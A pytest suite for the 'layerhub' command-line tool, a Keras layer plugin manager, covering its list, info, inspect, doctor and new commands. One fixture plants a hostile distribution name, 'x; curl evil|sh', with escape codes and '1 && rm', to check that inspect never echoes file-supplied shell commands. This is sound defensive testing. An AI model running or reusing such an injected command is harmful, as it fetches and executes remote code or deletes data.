"""The ``layerhub`` console script, run for real in subprocesses."""

from __future__ import annotations

import importlib.metadata
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from layerhub.testing.fakes import write_fake_distribution

Run = Callable[..., subprocess.CompletedProcess[str]]

SCALE_VERSION = importlib.metadata.version("layerhub-scale")

BROKEN_PLUGIN = "raise RuntimeError('boom: broken on purpose')\n"
MISMATCHED_PLUGIN = """
import keras
from layerhub import hookimpl

@keras.saving.register_keras_serializable(package="layerhub_mismatch")
class Real(keras.layers.Layer):
    def call(self, x):
        return x

@hookimpl
def layerhub_layers():
    return [Real]
"""


def _console_script() -> str:
    beside = Path(sys.executable).parent / "layerhub"
    found = str(beside) if beside.exists() else shutil.which("layerhub")
    if found is None:
        pytest.fail("the layerhub console script is not installed next to this interpreter")
    return found


@pytest.fixture(scope="module")
def layerhub_cmd() -> str:
    return _console_script()


def _env(*paths: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k != "LAYERHUB_DISABLE_AUTOLOAD"}
    extra = [str(p) for p in paths]
    if env.get("PYTHONPATH"):
        extra.append(env["PYTHONPATH"])
    if extra:
        env["PYTHONPATH"] = os.pathsep.join(extra)
    env["TF_CPP_MIN_LOG_LEVEL"] = "2"
    return env


@pytest.fixture
def run(layerhub_cmd: str, tmp_path: Path) -> Run:
    def run(*args: str | Path, path: tuple[Path, ...] = ()) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [layerhub_cmd, *map(str, args)],
            capture_output=True,
            text=True,
            env=_env(*path),
            cwd=tmp_path,
            timeout=300,
        )

    return run


def _assert_one_line_error(result: subprocess.CompletedProcess[str], *fragments: str) -> None:
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("layerhub: error: ")
    for fragment in fragments:
        assert fragment in lines[0]
    assert result.stdout == ""


# -- fixtures: model files ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def scale_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A .keras file saved with layerhub.save_model: a Dense and a plugin Scale layer."""
    import keras
    from layerhub_scale import Scale

    import layerhub

    inputs = keras.Input((4,))
    outputs = Scale(name="scale")(keras.layers.Dense(3)(inputs))
    path = tmp_path_factory.mktemp("models") / "scaled.keras"
    layerhub.save_model(keras.Model(inputs, outputs), path)
    return path


def _rewrite(source: Path, target: Path, edit: Callable[[dict, dict], None]) -> Path:
    """Copy a .keras archive, letting ``edit(config, metadata)`` change its JSON in place.

    The manifest (the archive's comment) is handed to ``edit`` as ``metadata["layerhub"]``.
    """
    with zipfile.ZipFile(source) as old:
        config = json.loads(old.read("config.json"))
        metadata = json.loads(old.read("metadata.json"))
        metadata["layerhub"] = json.loads(old.comment.partition(b":")[2])
        edit(config, metadata)
        with zipfile.ZipFile(target, "w") as new:
            new.comment = b"layerhub-manifest:" + json.dumps(metadata.pop("layerhub")).encode()
            for info in old.infolist():
                if info.filename == "config.json":
                    new.writestr(info, json.dumps(config))
                elif info.filename == "metadata.json":
                    new.writestr(info, json.dumps(metadata))
                else:
                    new.writestr(info, old.read(info))
    return target


def _nodes(tree: object) -> list[dict]:
    stack, found = [tree], []
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            found.append(item)
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    return found


def _needs_missing_plugin(config: dict, metadata: dict) -> None:
    # As if the file came from a machine with a plugin this one lacks.
    for node in _nodes(config):
        if node.get("registered_name") == "layerhub_scale>Scale":
            node["registered_name"] = "layerhub_nothere>Foo"
            node["class_name"] = "Foo"
    metadata["layerhub"]["objects"] = {
        "layerhub_nothere>Foo": {"distribution": "layerhub-nothere", "version": "0.3.0"}
    }


def _saved_with_old_scale(config: dict, metadata: dict) -> None:
    metadata["layerhub"]["objects"]["layerhub_scale>Scale"]["version"] = "0.0.1"


# -- list -----------------------------------------------------------------------------------------


def _columns(line: str) -> list[str]:
    return line.split()


def test_list_prints_an_aligned_table(run: Run) -> None:
    result = run("list")
    assert result.returncode == 0, result.stderr
    header, *rows = result.stdout.splitlines()
    assert _columns(header) == [
        "NAME",
        "REGISTERED",
        "NAME",
        "PLUGIN",
        "DISTRIBUTION",
        "VERSION",
        "STATUS",
    ]
    scale = next(r for r in rows if r.startswith("Scale "))
    assert _columns(scale) == [
        "Scale",
        "layerhub_scale>Scale",
        "layerhub_scale",
        "layerhub-scale",
        SCALE_VERSION,
        "installed",
    ]
    # Aligned: every column starts at the same offset in the header and in the rows.
    for title, value in (("REGISTERED NAME", "layerhub_scale>Scale"), ("STATUS", "installed")):
        assert header.index(title) == scale.index(value)


def test_list_pattern_and_json(run: Run) -> None:
    matched = run("list", "SCAL?")  # case-insensitive; ComplexScale does not match
    assert matched.returncode == 0
    assert [line.split()[0] for line in matched.stdout.splitlines()[1:]] == ["Scale"]

    nothing = run("list", "no-such-*")
    assert nothing.returncode == 0
    assert "no installed layer matches 'no-such-*'" in nothing.stdout

    as_json = run("list", "--json")
    assert as_json.returncode == 0
    data = json.loads(as_json.stdout)
    assert data["format"] == 1
    scale = next(r for r in data["records"] if r["name"] == "Scale")
    assert scale == {
        "name": "Scale",
        "registered_name": "layerhub_scale>Scale",
        "plugin": "layerhub_scale",
        "module": "layerhub_scale",
        "distribution": "layerhub-scale",
        "version": SCALE_VERSION,
        "status": "installed",
        "error": None,
    }
    filtered = json.loads(run("list", "Scale", "--json").stdout)
    assert [r["name"] for r in filtered["records"]] == ["Scale"]


def test_list_imports_neither_keras_nor_plugins(run: Run, tmp_path: Path) -> None:
    # Poisoned packages shadow the real ones: importing any of them would fail the command.
    poison = tmp_path / "poison"
    for package in ("keras", "tensorflow", "layerhub_scale"):
        (poison / package).mkdir(parents=True)
        (poison / package / "__init__.py").write_text(
            f"raise ImportError('layerhub list imported {package}')\n"
        )
    result = run("list", path=(poison,))
    assert result.returncode == 0, result.stderr
    assert "layerhub_scale>Scale" in result.stdout


def test_list_shows_problems_in_the_status_column_without_warnings(
    run: Run, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    write_fake_distribution(site, "layerhub-orphan", objects={"Orphan": "layerhub_orphan:Orphan"})
    result = run("list", path=(site,))
    assert result.returncode == 0
    orphan = next(line for line in result.stdout.splitlines() if line.startswith("Orphan "))
    assert orphan.split()[-1] == "broken"
    assert "declares objects but no plugin in the 'layerhub' group" in result.stdout
    assert "Warning" not in result.stderr


# -- info -----------------------------------------------------------------------------------------


@pytest.mark.slow
def test_info_describes_a_layer(run: Run) -> None:
    result = run("info", "Scale")
    assert result.returncode == 0, result.stderr
    fields = {}
    for line in result.stdout.splitlines():
        if line and not line.startswith(" "):
            key, _, value = line.partition("  ")
            fields[key] = value.strip()
    assert fields["summary"].startswith("Multiplies by a learnable ``gamma``")
    assert fields["registered name"] == "layerhub_scale>Scale"
    assert fields["distribution"] == f"layerhub-scale {SCALE_VERSION}"
    assert fields["legacy names"] == "Scale"
    assert fields["install"] == "pip install layerhub-scale"
    # The constructor signature, with defaults and without annotations.
    for argument in ("axis=-1,", "momentum=0.9,", "gamma_initializer='ones',", "**kwargs,"):
        assert f"    {argument}" in result.stdout


def test_info_unknown_name_is_bad_input(run: Run) -> None:
    _assert_one_line_error(
        run("info", "Scal"), "no installed layerhub plugin provides 'Scal'", "Scale"
    )


# -- inspect --------------------------------------------------------------------------------------


def test_inspect_a_model_whose_plugins_are_installed(run: Run, scale_model: Path) -> None:
    result = run("inspect", scale_model)
    assert result.returncode == 0, result.stderr
    assert "layerhub manifest" in result.stdout
    row = next(line for line in result.stdout.splitlines() if line.startswith("layerhub_scale>"))
    assert row.split() == [
        "layerhub_scale>Scale",
        "layerhub_scale",
        "layerhub-scale",
        SCALE_VERSION,
        "layerhub-scale",
        SCALE_VERSION,
        "ok",
    ]
    assert "pip install" not in result.stdout


def test_inspect_reports_a_version_difference(run: Run, scale_model: Path, tmp_path: Path) -> None:
    old = _rewrite(scale_model, tmp_path / "old.keras", _saved_with_old_scale)
    result = run("inspect", old)
    assert result.returncode == 0, result.stderr
    assert "ok (saved with 0.0.1)" in result.stdout


def test_inspect_a_model_needing_a_missing_plugin(
    run: Run, scale_model: Path, tmp_path: Path
) -> None:
    foreign = _rewrite(scale_model, tmp_path / "foreign.keras", _needs_missing_plugin)
    result = run("inspect", foreign)
    assert result.returncode == 1, result.stderr
    row = next(line for line in result.stdout.splitlines() if line.startswith("layerhub_nothere>"))
    assert row.split() == ["layerhub_nothere>Foo", "-", "layerhub-nothere", "0.3.0", "-", "missing"]
    assert "install them with: pip install layerhub-nothere==0.3.0" in result.stdout


def _claims_a_hostile_distribution(config: dict, metadata: dict) -> None:
    _needs_missing_plugin(config, metadata)
    metadata["layerhub"]["objects"] = {
        "layerhub_nothere>Foo": {"distribution": "x; curl evil|sh\n\x1b[2J", "version": "1 && rm"}
    }


def test_inspect_never_prints_a_file_chosen_command(
    run: Run, scale_model: Path, tmp_path: Path
) -> None:
    hostile = _rewrite(scale_model, tmp_path / "hostile.keras", _claims_a_hostile_distribution)
    result = run("inspect", hostile)
    assert result.returncode == 1, result.stderr
    assert "pip install" not in result.stdout
    # A claim packaging rejects is described, never shown, not even escaped.
    assert "curl evil" not in result.stdout
    assert "(text of " in result.stdout
    assert "\x1b" not in result.stdout
    assert "the conventional distribution is layerhub-nothere; check before installing" in (
        result.stdout
    )


@pytest.mark.slow
def test_inspect_a_keras2_h5_file(run: Run, tmp_path: Path) -> None:
    import h5py

    config = {
        "class_name": "Sequential",
        "config": {
            "name": "legacy",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4]}},
                {
                    "class_name": "Dense",
                    "config": {"units": 3, "kernel_initializer": {"class_name": "GlorotUniform"}},
                },
                {"class_name": "Scale", "config": {"axis": -1}},
                {"class_name": "MysteryLayer", "config": {}},
            ],
        },
    }
    path = tmp_path / "legacy.h5"
    with h5py.File(path, "w") as h5:
        h5.attrs["model_config"] = json.dumps(config)
    result = run("inspect", path)
    assert result.returncode == 1, result.stderr
    names = [line.split()[0] for line in result.stdout.splitlines()[2:] if line.strip()]
    # Keras built-ins (Sequential, InputLayer, Dense, GlorotUniform) are not plugin business.
    assert names[:2] == ["MysteryLayer", "Scale"]
    assert "MysteryLayer: no installed plugin provides it" in result.stdout
    scale = next(line for line in result.stdout.splitlines() if line.startswith("Scale "))
    assert scale.split()[1] == "layerhub_scale"
    assert scale.split()[-1] == "ok"


def _truncated(tmp_path: Path, model: Path) -> Path:
    path = tmp_path / "truncated.keras"
    path.write_bytes(model.read_bytes()[:200])
    return path


def _not_a_model(tmp_path: Path, model: Path) -> Path:
    path = tmp_path / "weights.keras"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model.weights.h5", b"")
    return path


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda tmp, model: tmp / "absent.keras", "no such model file"),
        (_truncated, "is not a .keras archive"),
        (_not_a_model, "is not a Keras model"),
        (lambda tmp, model: tmp, "is a directory"),
    ],
    ids=["missing", "truncated", "not-a-model", "directory"],
)
def test_inspect_bad_input_is_one_line_exit_2(
    run: Run,
    scale_model: Path,
    tmp_path: Path,
    make: Callable[[Path, Path], Path],
    message: str,
) -> None:
    _assert_one_line_error(run("inspect", make(tmp_path, scale_model)), message)


def test_debug_shows_the_traceback(run: Run, tmp_path: Path) -> None:
    result = run("inspect", tmp_path / "absent.keras", "--debug")
    assert result.returncode == 2
    assert "Traceback (most recent call last)" in result.stderr
    assert "ModelFileError" in result.stderr
    assert result.stderr.strip().splitlines()[-1].startswith("layerhub: error: no such model")


# -- doctor ---------------------------------------------------------------------------------------


@pytest.mark.slow
def test_doctor_healthy(run: Run) -> None:
    result = run("doctor")
    assert result.returncode == 0, result.stdout + result.stderr
    row = next(line for line in result.stdout.splitlines() if " layerhub_scale " in line)
    assert row.split()[0] == "ok"
    assert "each loads and agrees with its metadata" in result.stdout


@pytest.mark.slow
def test_doctor_reports_broken_and_mismatched_plugins(run: Run, tmp_path: Path) -> None:
    site = tmp_path / "site"
    write_fake_distribution(
        site,
        "layerhub-broken",
        plugin="layerhub_broken",
        objects={"Broken": "layerhub_broken:Broken"},
        modules={"layerhub_broken/__init__.py": BROKEN_PLUGIN},
    )
    write_fake_distribution(
        site,
        "layerhub-mismatch",
        plugin="layerhub_mismatch",
        objects={"Ghost": "layerhub_mismatch:Ghost"},
        modules={"layerhub_mismatch/__init__.py": MISMATCHED_PLUGIN},
    )
    result = run("doctor", path=(site,))
    assert result.returncode == 1, result.stdout + result.stderr
    table = result.stdout.split("\n\n")[0].splitlines()[1:]
    status = {line.split()[1]: line.split()[0] for line in table}
    assert status["layerhub_broken"] == "broken"
    assert status["layerhub_mismatch"] == "mismatch"
    assert status["layerhub_scale"] == "ok"
    assert "RuntimeError: boom: broken on purpose" in result.stdout
    assert "metadata declares layerhub_mismatch>Ghost but the hooks do not provide it" in (
        result.stdout
    )
    assert "2 of" in result.stdout
    assert "Traceback" not in result.stderr


# -- new ------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_new_writes_a_plugin_that_passes_its_own_tests_and_lists(run: Run, tmp_path: Path) -> None:
    result = run("new", "tiny", "--layer", "TinyScale", "--dir", tmp_path / "work")
    assert result.returncode == 0, result.stderr
    root = tmp_path / "work" / "layerhub-tiny"
    files = sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
    assert files == [
        "LICENSE",
        "README.md",
        "layerhub_tiny/__init__.py",
        "layerhub_tiny/tiny_scale.py",
        "pyproject.toml",
        "tests/test_tiny_scale.py",
    ]
    pyproject = (root / "pyproject.toml").read_text()
    assert 'layerhub_tiny = "layerhub_tiny"' in pyproject
    assert 'TinyScale = "layerhub_tiny:TinyScale"' in pyproject
    layer = (root / "layerhub_tiny" / "tiny_scale.py").read_text()
    assert 'register_keras_serializable(package="layerhub_tiny")' in layer
    methods = [
        "def __init__",
        "def build",
        "def call",
        "def compute_output_shape",
        "def get_config",
    ]
    assert [layer.index(m) for m in methods] == sorted(layer.index(m) for m in methods)
    assert (
        "from layerhub.testing import check_layer"
        in (root / "tests" / "test_tiny_scale.py").read_text()
    )

    # A real build and install of the generated distribution, into a directory of its own.
    site = tmp_path / "site"
    install = subprocess.run(
        [
            *(sys.executable, "-m", "pip", "install", "-q", "--disable-pip-version-check"),
            *("--no-deps", "--no-build-isolation", "--target", str(site), str(root)),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert install.returncode == 0, install.stderr

    listed = run("list", "Tiny*", path=(site,))
    assert listed.returncode == 0, listed.stderr
    assert listed.stdout.splitlines()[1].split() == [
        "TinyScale",
        "layerhub_tiny>TinyScale",
        "layerhub_tiny",
        "layerhub-tiny",
        "0.1.0",
        "installed",
    ]

    # The generated tests pass unmodified (the conformance kit included).
    tests = subprocess.run(
        [
            *(sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"),
            *("--rootdir", str(root), str(root / "tests")),
        ],
        capture_output=True,
        text=True,
        env=_env(site),
        cwd=root,
        timeout=600,
    )
    assert tests.returncode == 0, tests.stdout[-3000:] + tests.stderr[-3000:]
    assert "3 passed" in tests.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["new", "Bad Name", "--layer", "Foo"], "Received: NAME='Bad Name'"),
        (["new", "layerhub-", "--layer", "Foo"], "Received: NAME='layerhub-'"),
        (["new", "foo", "--layer", "foo_layer"], "Received: --layer='foo_layer'"),
        (["new", "foo", "--layer", "None"], "Received: --layer='None'"),
        (["new", "foo"], "the following arguments are required: --layer"),
        (["bogus"], "invalid choice: 'bogus'"),
        ([], "the following arguments are required"),
    ],
)
def test_bad_usage_is_one_line_exit_2(run: Run, args: list[str], message: str) -> None:
    _assert_one_line_error(run(*args), message)


def test_new_refuses_to_overwrite(run: Run, tmp_path: Path) -> None:
    existing = tmp_path / "layerhub-taken"
    existing.mkdir()
    (existing / "keep.txt").write_text("mine")
    _assert_one_line_error(run("new", "taken", "--layer", "Taken"), "already exists")
    assert [p.name for p in existing.iterdir()] == ["keep.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["layerhub-taken"]


def test_python_dash_m_layerhub(tmp_path: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "layerhub", "list", "Scale"],
        capture_output=True,
        text=True,
        env=_env(),
        cwd=tmp_path,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert "layerhub_scale>Scale" in result.stdout
